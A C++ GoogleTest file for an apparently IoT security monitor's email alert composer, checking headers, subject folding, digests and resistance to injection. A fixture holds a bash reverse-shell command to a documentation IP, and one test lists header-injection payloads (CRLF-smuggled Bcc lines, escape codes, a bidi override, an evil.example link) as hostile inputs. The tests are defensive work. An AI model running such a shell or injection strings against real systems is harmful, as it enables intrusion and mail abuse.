// Mail: what a device wrote reaches no header, ends no line and is nothing to click on.
#include "export/mail.hpp"

#include <gmock/gmock.h>

#include <vector>

#include "base/bytes.hpp"

namespace fieldwatch::exports {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::Not;

const Teller kMailTeller{.version = "0.1.0", .page_url = "https://watch.example"};
const MailRoute kRoute{.from = "fieldwatch@plant.example",
                       .recipients = {"soc@plant.example", "on-call@plant.example"}};

Finding finding(std::string title = "Reverse shells", model::Severity severity = model::Severity::High) {
    Finding out;
    out.id = out.delivery_id = "0d9c7d8e-0000-4000-8000-000000000001";
    out.type = "IoT_ReverseShell";
    out.title = std::move(title);
    out.severity = severity;
    out.state = "New";
    out.hub = "plant";
    out.device = "gate";
    out.decided = Timestamp::from_unix_seconds(1'795'939'200);  // 2026-11-29 08:00:00
    out.remediation = {"Cut it off."};
    return out;
}

struct Read {
    std::vector<std::string> names;
    std::vector<std::string> values;  ///< unfolded
    std::string body;
    std::string value(std::string_view name) const {
        for (std::size_t i = 0; i < names.size(); ++i)
            if (names[i] == name) return values[i];
        return {};
    }
};

/// As a mailbox reads it; every line must end with CRLF, and no carriage return or line feed stands alone.
Read read(std::string_view mail) {
    Read out;
    bool in_header = true;
    std::string encoded;
    while (!mail.empty()) {
        const auto end = mail.find("\r\n");
        EXPECT_NE(end, std::string_view::npos) << "a line without end";
        if (end == std::string_view::npos) break;
        const auto line = mail.substr(0, end);
        mail.remove_prefix(end + 2);
        EXPECT_EQ(line.find_first_of("\r\n"), std::string_view::npos);
        EXPECT_LE(line.size(), 998u);
        if (!in_header) {
            encoded += line;
        } else if (line.empty()) {
            in_header = false;
        } else if (line.starts_with(' ')) {
            out.values.back() += line;
        } else {
            const auto colon = line.find(": ");
            out.names.emplace_back(line.substr(0, colon));
            out.values.emplace_back(line.substr(colon + 2));
        }
    }
    const auto body = from_base64(encoded);
    EXPECT_TRUE(body);
    if (body) out.body = as_text(*body);
    return out;
}

std::string composed(const Finding& one) {
    return compose_mail(kRoute, std::span(&one, 1), kMailTeller);
}

TEST(Mail, SaysWhatHappenedWhereAndWhatToDo) {
    auto one = finding();
    one.observables = {{Observable::What::CommandLine, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}};
    const auto mail = read(composed(one));
    EXPECT_THAT(mail.names, ElementsAre("Date", "From", "To", "Subject", "Message-ID", "Auto-Submitted",
                                        "MIME-Version", "Content-Type", "Content-Transfer-Encoding"));
    EXPECT_EQ(mail.value("Date"), "Sun, 29 Nov 2026 08:00:00 +0000");
    EXPECT_EQ(mail.value("From"), "Fieldwatch <fieldwatch@plant.example>");
    EXPECT_EQ(mail.value("To"), "soc@plant.example, on-call@plant.example");
    EXPECT_EQ(mail.value("Subject"), "[Fieldwatch] High: Reverse shells at gate (plant)");
    EXPECT_EQ(mail.value("Message-ID"), "<" + one.id + "@plant.example>");
    EXPECT_THAT(mail.body, HasSubstr("- command line: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\r\n"));
    EXPECT_THAT(mail.body, HasSubstr("What to do\r\n1. Cut it off.\r\n"));
    EXPECT_THAT(mail.body, HasSubstr("https://watch.example/alerts/" + one.id));
    EXPECT_EQ(composed(one), composed(one));
}

TEST(Mail, NoTextOfADeviceBecomesAHeaderALineOrALink) {
    const auto usual = read(composed(finding()));
    for (const std::string hostile :
         {"x\r\nBcc: all@evil.example", "x\nBcc: all@evil.example\n\nbody", "\r\n\r\nbody", "\r",
          "=?UTF-8?B?QmNjOiBh?=", "\x1b[2J", "é\xE2\x80\xAE",
          "\xC2\x85"
          "Bcc: a",
          "\xE2\x80\xA8"
          "Bcc: a",
          "http://evil.example/x", "> <", "\"", "a, b@c.example"}) {
        auto one = finding(hostile);
        one.device = one.hub = one.description = one.rule_title = one.incident = one.state = hostile;
        one.delivery_id = one.id = hostile;
        one.later = true;
        one.techniques = one.remediation = {hostile};
        one.observables = {{Observable::What::CommandLine, hostile}, {Observable::What::Url, hostile}};
        const auto mail = read(composed(one));
        auto names = usual.names;
        names.insert(names.begin() + 5, "References");
        EXPECT_EQ(mail.names, names) << hostile;
        for (const auto* const same : {"From", "To", "Content-Type"})
            EXPECT_EQ(mail.value(same), usual.value(same)) << hostile;
        for (const auto& value : mail.values)
            EXPECT_TRUE(std::ranges::all_of(value, [](char c) { return c >= ' ' && c <= '~'; })) << value;
        for (const auto* const id : {"Message-ID", "References"})
            EXPECT_EQ(mail.value(id).find_first_of("\" ,:;\\"), std::string::npos) << mail.value(id);
        EXPECT_THAT(mail.body, Not(HasSubstr("http://evil")));
        EXPECT_THAT(mail.body, Not(HasSubstr("\xE2\x80\xAE")));
        EXPECT_THAT(mail.body, Not(HasSubstr("\nBcc:")));
        EXPECT_THAT(mail.body, Not(HasSubstr("\x1b")));
    }
}

TEST(Mail, ASubjectInOtherLettersIsFoldedBetweenCharacters) {
    std::string long_title;
    for (int i = 0; i < 40; ++i)
        long_title += "größe";
    const auto mail = read(composed(finding(long_title)));
    std::string decoded;
    std::string_view rest = mail.values[3];
    while (!rest.empty()) {
        ASSERT_TRUE(rest.starts_with("=?UTF-8?B?"));
        const auto end = rest.find("?=");
        ASSERT_LE(end, 73u);
        const auto word = from_base64(rest.substr(10, end - 10));
        ASSERT_TRUE(word);
        EXPECT_TRUE(is_utf8(as_text(*word)));
        decoded += as_text(*word);
        rest.remove_prefix(end + 2);
        if (rest.starts_with(' ')) rest.remove_prefix(1);
    }
    EXPECT_THAT(decoded, HasSubstr("[Fieldwatch] High: größegröße"));
    EXPECT_FALSE(mail_header_value(std::string(100, '\x80')).empty());  // no UTF-8: ends all the same
}

TEST(Mail, ADigestHasTheMostSevereFirstAndAnIdOfItsOwn) {
    std::vector<Finding> all{finding("low", model::Severity::Low), finding("worst"), finding("also")};
    all[1].delivery_id = "b";
    all[2].delivery_id = "c";
    const auto mail = read(compose_mail(kRoute, all, kMailTeller));
    EXPECT_EQ(mail.value("Subject"), "[Fieldwatch] 3 findings, 2 of them High");
    EXPECT_TRUE(mail.body.starts_with(
        "High: worst at gate (plant)\r\nHigh: also at gate (plant)\r\nLow: low at gate (plant)\r\n"))
        << mail.body;
    const auto id = mail.value("Message-ID");
    EXPECT_EQ(read(compose_mail(kRoute, all, kMailTeller)).value("Message-ID"), id);
    all.pop_back();
    EXPECT_NE(read(compose_mail(kRoute, all, kMailTeller)).value("Message-ID"), id);
}

TEST(Mail, WhatBelongsToAnIncidentLiesTogether) {
    auto one = finding();
    one.incident = "11111111-2222-4333-8444-555555555555";
    EXPECT_EQ(read(composed(one)).value("References"),
              "<11111111-2222-4333-8444-555555555555@plant.example>");
}

}  // namespace
}  // namespace fieldwatch::exports
